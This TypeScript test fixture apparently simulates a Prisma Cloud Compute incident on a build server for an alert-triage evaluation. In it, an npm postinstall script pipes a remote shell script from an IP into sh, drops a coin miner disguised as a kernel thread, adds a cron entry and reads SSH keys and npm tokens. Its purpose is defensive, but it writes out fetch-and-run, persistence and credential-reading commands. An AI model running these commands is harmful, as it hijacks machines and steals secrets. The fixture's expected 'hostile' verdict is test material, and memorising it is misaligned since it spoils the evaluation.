// Prisma Cloud Compute saw a process with the name of a kernel thread on the build server; a package installed a coin miner.
import { alert, connected, hashes, hostile, ran, wrote } from '../../shorthand.ts'
import type { TellSituation } from '../../situation.ts'

export const prismaComputeIncidentOnTheBuildServer: TellSituation = (setting) => {
  const server = setting.machine('srv-build-02')
  const at = setting.ago({ minutes: 47 })
  const file = setting.file('kworker-u8-miner')
  const folder = '/var/tmp/.X12-lock'
  const drop = '91.211.88.164'
  const pool = '185.196.9.211'
  const poolHost = 'eu2.randx-gate.org'
  const incident = setting.seeded.hex('prisma compute incident', 24)
  const profile = setting.seeded.hex('prisma compute profile', 64)
  const shell = `sh -c "curl -fsSL http://${drop}/s/r.sh | sh"`
  const builder = { AccountName: 'runner' }
  const audit = (i: number, more: Record<string, unknown>) => ({
    _id: setting.seeded.hex(`prisma compute audit ${i}`, 24),
    time: setting.iso(at - 90_000 + i * 21_000),
    hostname: server.host,
    fqdn: server.dnsName,
    user: 'runner',
    type: 'processes',
    containerId: '',
    containerName: '',
    imageName: '',
    imageId: '',
    namespace: '',
    effect: 'alert',
    ruleName: 'Default - alert on suspicious runtime behavior',
    profileId: server.host,
    interactive: false,
    os: 'Ubuntu 22.04.5 LTS',
    version: '33.01.137',
    severity: 'high',
    region: '',
    account: '',
    provider: 'others',
    resourceID: '',
    count: 1,
    ...more,
  })
  return {
    id: 'prisma-compute-incident-on-the-build-server',
    group: 'formats',
    title: 'Prisma Cloud Compute: host incident on the build server',
    alerts: [
      alert(setting, at, 'palo_alto_prisma_cloud_compute', 'incident', {
        _id: incident,
        time: setting.iso(at),
        type: 'host',
        category: 'hijackedProcess',
        serialNum: 388,
        acknowledged: false,
        shouldCollect: true,
        hostname: server.host,
        fqdn: server.dnsName,
        user: 'runner',
        containerName: '',
        containerID: '',
        imageName: '',
        imageID: '',
        namespace: '',
        cluster: '',
        region: '',
        accountID: 'Non-onboarded cloud accounts',
        provider: 'others',
        resourceID: '',
        vmID: setting.seeded.guid('build vm'),
        profileID: profile,
        collections: ['All', 'hsi-build-hosts'],
        labels: { osDistro: 'ubuntu', osVersion: '22.04' },
        windows: false,
        customRuleName: '',
        app: '',
        appID: '',
        function: '',
        functionID: '',
        runtime: '',
        audits: [
          audit(0, {
            attackType: 'unexpectedProcess',
            msg: '/usr/bin/curl launched but is not found in the runtime model. Parent /usr/bin/dash',
            processPath: '/usr/bin/curl',
            command: `curl -fsSL http://${drop}/s/r.sh`,
            pid: 2_118_940,
            attackTechniques: ['commandAndScriptingInterpreter'],
          }),
          audit(1, {
            attackType: 'explicitlyDeniedProcess',
            msg: `${folder}/[kworker] launched from a hidden folder`,
            processPath: `${folder}/[kworker]`,
            command: '[kworker/u8:2-events]',
            pid: 2_118_977,
            processMd5: file.md5,
            attackTechniques: ['masquerading', 'resourceHijacking'],
          }),
          audit(2, {
            type: 'network',
            attackType: 'unexpectedOutboundPort',
            msg: `Outbound connection by ${folder}/[kworker] to an unexpected port: 14433 IP: ${pool}. Low severity audit`,
            processPath: `${folder}/[kworker]`,
            command: '[kworker/u8:2-events]',
            pid: 2_118_977,
            ip: pool,
            port: 14433,
            severity: 'low',
            attackTechniques: ['applicationLayerProtocol'],
          }),
        ],
        defender: {
          hostname: server.dnsName,
          type: 'serverLinux',
          version: '33.01.137',
          connected: true,
          status: 'ok',
        },
        console: 'https://europe-west3.cloud.twistlock.com/eu-2-143551873',
        link: `https://europe-west3.cloud.twistlock.com/eu-2-143551873/#!/monitor/runtime/incidents?id=${incident}`,
        project: 'Central Console',
      }),
    ],
    facts: {
      intelligence: [
        setting.risk('ip', drop, 86, [
          [
            'Recent Malware Delivery',
            4,
            'Serves shell scripts that install coin miners on build servers, seen this week.',
          ],
        ]),
        setting.risk('domain', poolHost, 79, [['Recent Cryptocurrency Mining Pool', 3, 'Gate to a Monero pool.']]),
        setting.risk('ip', pool, 64, [['Recent Cryptocurrency Mining Pool', 3, 'Gate to a Monero pool.']]),
        setting.risk('hash', file.sha256, 84, [['Positive Malware Verdict', 4, 'Packed XMRig coin miner for Linux.']], {
          hashAlgorithm: 'SHA-256',
          fileHashes: [file.sha256, file.sha1, file.md5],
        }),
      ],
      telemetry: [
        ran(server, at - 260_000, 'npm', 'npm ci --workspace tools/report-theme', {
          ...builder,
          FolderPath: '/usr/bin',
          InitiatingProcessFileName: 'runsvc',
        }),
        ran(server, at - 118_000, 'node', 'node ./scripts/postinstall.js', {
          ...builder,
          FolderPath: '/usr/bin',
          InitiatingProcessFileName: 'npm',
          InitiatingProcessCommandLine: 'npm ci --workspace tools/report-theme',
        }),
        ran(server, at - 96_000, 'dash', shell, {
          ...builder,
          FolderPath: '/usr/bin',
          InitiatingProcessFileName: 'node',
          InitiatingProcessCommandLine: 'node ./scripts/postinstall.js',
        }),
        connected(server, at - 94_000, drop, {
          RemotePort: 80,
          InitiatingProcessFileName: 'curl',
          InitiatingProcessCommandLine: `curl -fsSL http://${drop}/s/r.sh`,
          InitiatingProcessAccountName: 'runner',
        }),
        wrote(server, at - 81_000, '[kworker]', folder, file, {
          FileOriginIP: drop,
          InitiatingProcessFileName: 'curl',
          InitiatingProcessAccountName: 'runner',
        }),
        ran(server, at - 70_000, '[kworker]', '[kworker/u8:2-events]', {
          ...builder,
          ...hashes(file),
          FolderPath: folder,
          InitiatingProcessFileName: 'dash',
        }),
        ran(server, at - 64_000, 'crontab', 'crontab -', {
          ...builder,
          FolderPath: '/usr/bin',
          InitiatingProcessFileName: 'dash',
          InitiatingProcessCommandLine: `sh -c "(crontab -l; echo '*/11 * * * * ${folder}/.up') | crontab -"`,
        }),
        ...[0, 9, 18, 27, 36, 45].map((minutes) =>
          connected(server, at - 48_000 + minutes * 60_000, pool, {
            RemotePort: 14_433,
            RemoteUrl: poolHost,
            InitiatingProcessFileName: '[kworker]',
            InitiatingProcessSHA256: file.sha256,
            InitiatingProcessAccountName: 'runner',
          }),
        ),
        ran(server, at + 600_000, 'cat', 'cat /home/runner/.ssh/id_ed25519 /home/runner/.npmrc', {
          ...builder,
          FolderPath: '/usr/bin',
          InitiatingProcessFileName: '.up',
          InitiatingProcessCommandLine: `${folder}/.up`,
        }),
      ],
    },
    expected: hostile(server.host),
    because:
      'A package script fetched a shell script from an address that spreads miners, and the program it installed is a known miner under the name of a kernel thread, with a cron entry. It talks to the pool up to now, and its helper read the SSH key and package tokens of the build account.',
  }
}
